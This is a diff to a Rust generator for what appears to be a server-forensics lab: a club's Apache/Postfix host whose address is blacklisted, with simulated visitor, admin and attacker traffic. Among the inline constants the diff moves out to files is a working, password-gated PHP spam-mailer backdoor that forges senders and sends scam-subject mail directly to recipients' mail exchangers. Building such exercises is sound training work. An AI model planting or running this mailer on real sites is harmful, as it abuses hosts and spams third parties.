@@ -147,7 +147,7 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
         };
         backdrop::correspondence(&mut line, &mut chance, length, 0.8, &person, ELSEWHERE);
     }
-    let web = Web { address: SERVER, name: "www.kirchweg.example" };
+    let page = Web { address: SERVER, name: "www.kirchweg.example" };
     backdrop::visits(
         &mut line,
         &mut chance,
@@ -155,7 +155,7 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
         5.0,
         &crowd,
         PEOPLE,
-        web,
+        page,
         &[
             "/",
             "/index.php?page=garden",
@@ -165,7 +165,7 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
             "/content/uploads/2026/09/roses.svg",
         ],
     );
-    backdrop::scanners(&mut line, &mut chance, length, &crowd, SCANNERS, web);
+    backdrop::scanners(&mut line, &mut chance, length, &crowd, SCANNERS, page);
     // The site's own people: the admin area is a stream of POSTs, as such areas are.
     for at in chance.arrivals(2.2, 5.0, length - 3.0) {
         backdrop::request(
@@ -174,7 +174,7 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
             "admin",
             &crowd,
             "198.51.100.130",
-            web,
+            page,
             &[
                 "-A",
                 crate::web::AGENTS.first().copied().unwrap_or_default(),
@@ -192,7 +192,7 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
             "form",
             &crowd,
             from,
-            web,
+            page,
             &[
                 "-A",
                 crate::web::AGENTS.get(1).copied().unwrap_or_default(),
@@ -212,20 +212,15 @@ pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
             list.push(format!("{name}@{}", chance.pick(VICTIMS)));
         }
         let body = format!("k=zq81&d={}", list.join("%0A").replace('@', "%40"));
-        let from = chance.pick(STRANGERS);
+        let (from, agent) = (chance.pick(STRANGERS), chance.pick(web::AGENTS));
         backdrop::request(
             &mut line,
             at,
             "bad",
             &crowd,
             from,
-            web,
-            &[
-                "-A",
-                "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
-                "-d",
-                &body,
-            ],
+            page,
+            &["-A", agent, "-d", &body],
             SCRIPT.trim_start_matches(ROOT),
         );
     }
@@ -321,138 +316,24 @@ fn site(server: &crate::host::Host) -> Result<()> {
     Ok(())
 }
 
-const FIREWALL: &str = "iptables -P INPUT DROP
-iptables -A INPUT -i lo -j ACCEPT
-iptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT
-iptables -A INPUT -p tcp -m multiport --dports 22,25,80,443,587 -j ACCEPT
-iptables -A INPUT -p icmp -j ACCEPT
-iptables -A OUTPUT -o lo -j ACCEPT
-iptables -A OUTPUT -m conntrack --ctstate NEW,ESTABLISHED,RELATED -j ACCEPT
-iptables -A OUTPUT -p tcp --dport 25 -m owner --uid-owner postfix -j ACCEPT
-iptables -A OUTPUT -p tcp --dport 25 -j REJECT --reject-with tcp-reset";
+const FIREWALL: &str = include_str!("seed_php_script/firewall.sh");
+const CRON: &str = include_str!("seed_php_script/cron");
 
-const CRON: &str = "SHELL=/bin/sh
-PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
-MAILTO=postmaster@kirchweg.example
-*/4 * * * * root check-mx mx1.northmail.example
-*/5 * * * * www-data site-report
-";
+const CHECK_MX: &str = include_str!("seed_php_script/check-mx");
+const REPORT: &str = include_str!("seed_php_script/site-report");
 
-const CHECK_MX: &str = "#!/bin/bash
-# Our parents' newsletters all go to this provider: is its exchanger reachable from here?
-exec 3<>/dev/tcp/$1/25 || { echo \"$1 does not answer\"; exit 1; }
-read -r -t 10 -u 3 banner
-printf 'HELO %s\\r\\n' \"$(hostname)\" >&3
-read -r -t 10 -u 3 answer
-printf 'QUIT\\r\\n' >&3
-read -r -t 10 -u 3 answer
-case $banner in 220*) ;; *) echo \"$1: $banner\" ;; esac
-";
+const INDEX: &str = include_str!("seed_php_script/index.php");
+const CONTACT: &str = include_str!("seed_php_script/contact.php");
 
-const REPORT: &str = "#!/bin/sh
-# Tells the web master how the site was used.
-{
-    echo 'From: Garden site <www-data@kirchweg.example>'
-    echo 'To: web@northmail.example'
-    echo 'Subject: visits'
-    echo
-    tail -n 200 /var/www/kirchweg/content/visits.txt 2>/dev/null | cut -d' ' -f1 | sort | uniq -c
-    uptime
-} | /usr/sbin/sendmail -t -i
-";
+const LOGIN: &str = include_str!("seed_php_script/login.php");
+const AJAX: &str = include_str!("seed_php_script/ajax.php");
 
-const INDEX: &str = "<?php
-$page = preg_replace('/[^a-z]/', '', $_GET['page'] ?? 'home');
-$settings = require __DIR__ . '/lib/settings.php';
-@file_put_contents(__DIR__ . '/content/visits.txt', $page . ' ' . time() . \"\\n\", FILE_APPEND);
-?><!doctype html><title><?= htmlspecialchars($settings['title']) ?></title>
-<h1><?= htmlspecialchars($page) ?></h1><p>Open on Saturdays.</p><img src=\"/content/uploads/2026/10/beds.svg\">
-";
-
-const CONTACT: &str = "<?php
-// The contact form: one fixed recipient, header lines cleaned.
-if ($_SERVER['REQUEST_METHOD'] === 'POST') {
-    $clean = fn(string $s) => str_replace([\"\\r\", \"\\n\"], ' ', $s);
-    $from = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL) ?: 'unknown@kirchweg.example';
-    mail('greta@kirchweg.example', 'Question from the site', wordwrap($_POST['text'] ?? ''), 'Reply-To: ' . $clean($from));
-    mail($clean($from), 'Thank you for your question', \"We answer within three days.\\n\", 'From: info@kirchweg.example');
-    echo 'Thank you';
-    exit;
-}
-?><form method=\"post\"><input name=\"name\"><input name=\"mail\"><textarea name=\"text\"></textarea><button>Send</button></form>
-";
-
-const LOGIN: &str = "<?php
-session_start();
-if (isset($_POST['user']) && password_verify($_POST['password'] ?? '', '$2y$10$abcdefghijklmnopqrstuuSJHjz7VbLx0xW3gJm2u6k9v1q2w3e4r')) {
-    $_SESSION['user'] = $_POST['user'];
-    header('Location: /admin/');
-    exit;
-}
-http_response_code(403);
-";
-
-const AJAX: &str = "<?php
-// Autosave and heartbeat of the editor.
-header('Content-Type: application/json');
-$action = $_POST['action'] ?? '';
-if ($action === 'heartbeat') { usleep(random_int(20000, 900000)); echo json_encode(['alive' => true]); exit; }
-http_response_code(400);
-";
-
-const SMTP_CLASS: &str = "<?php
-/** A small SMTP client for sites that want replies and not a pipe to sendmail. Talks to the local server only. */
-class Smtp
-{
-    private $socket;
-
-    public function __construct(string $host = '127.0.0.1', int $port = 25)
-    {
-        $this->socket = fsockopen($host, $port, $code, $text, 10);
-        if (!$this->socket) { throw new RuntimeException($text); }
-        $this->read();
-        $this->say('EHLO ' . (gethostname() ?: 'localhost'));
-    }
-
-    public function send(string $from, string $to, string $data): bool
-    {
-        $this->say(\"MAIL FROM:<$from>\");
-        $this->say(\"RCPT TO:<$to>\");
-        $this->say('DATA');
-        return str_starts_with($this->say(preg_replace('/^\\./m', '..', $data) . \"\\r\\n.\"), '250');
-    }
-
-    private function say(string $line): string
-    {
-        fwrite($this->socket, $line . \"\\r\\n\");
-        return $this->read();
-    }
-
-    private function read(): string
-    {
-        do { $line = fgets($this->socket, 1024); } while ($line !== false && ($line[3] ?? ' ') === '-');
-        return (string) $line;
-    }
-}
-";
+const SMTP_CLASS: &str = include_str!("seed_php_script/smtp.php");
 
 const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"80\" height=\"40\"><rect width=\"80\" height=\"40\" fill=\"#7a5\"/></svg>\n";
 
 // Recipients come with the request and only the lab's exchangers exist: enough structure to be what a scanner flags, no more.
-const PAYLOAD: &str = r#"if(($_POST['k']??'')!=='zq81'){http_response_code(404);exit;}
-function r($s){do{$l=fgets($s,512);}while($l!==false&&substr($l,3,1)==='-');return (string)$l;}
-$b=['Your account statement is ready','Best prices for watches this week','Final notice: parcel waiting'];
-foreach(explode("\n",$_POST['d']) as $t){
-$t=trim($t);$h=[];$w=[];if(!getmxrr(substr(strrchr($t,'@'),1),$h,$w))continue;array_multisort($w,$h);
-$s=@fsockopen($h[0],25,$n,$e,8);if(!$s)continue;
-r($s);fwrite($s,"EHLO [127.0.0.1]\r\n");r($s);
-$f=substr(md5($t),0,8).'@'.substr(md5($t),8,6).'.example';
-fwrite($s,"MAIL FROM:<$f>\r\n");r($s);fwrite($s,"RCPT TO:<$t>\r\n");if(substr(r($s),0,1)!=='2'){fwrite($s,"QUIT\r\n");fclose($s);continue;}
-fwrite($s,"DATA\r\n");r($s);
-fwrite($s,"From: <$f>\r\nTo: <$t>\r\nSubject: ".$b[crc32($t)%3]."\r\nDate: ".date('r')."\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhttp://".substr(md5($t),2,7).".offers.example/\r\n.\r\n");r($s);
-fwrite($s,"QUIT\r\n");r($s);fclose($s);usleep(700000);}
-echo 'ok';
-"#;
+const PAYLOAD: &str = include_str!("seed_php_script/payload.txt");
 
 const STORY: &str = "A server with a public address carries a club's web site (Apache, mod_php) and its mail (Postfix, submission with Dovecot SASL). \
 The CBL lists the address as kelihos, a family that runs on Windows only. The Postfix log and the copies kept by `always_bcc` are clean, chkrootkit finds nothing, and the firewall \
